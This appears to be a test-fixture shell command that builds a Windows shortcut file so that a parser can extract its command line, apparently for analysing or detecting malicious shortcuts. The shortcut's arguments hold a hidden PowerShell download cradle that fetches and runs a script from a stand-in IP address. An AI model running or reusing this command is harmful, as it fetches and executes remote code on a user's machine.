# A shortcut written from MS-SHLLINK that starts PowerShell with a download
# cradle: the command line becomes the text node lnk.txt.
$PY "$FIXTURES/mklnk.py" "$OUT" --target 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' \
    --args '-w hidden -nop -c "iex (New-Object Net.WebClient).DownloadString(\"http://203.0.113.7/a.ps1\")"' \
    --workdir '%TEMP%' --icon '%SystemRoot%\System32\imageres.dll' --env-target '%windir%\System32\WindowsPowerShell\v1.0\powershell.exe'
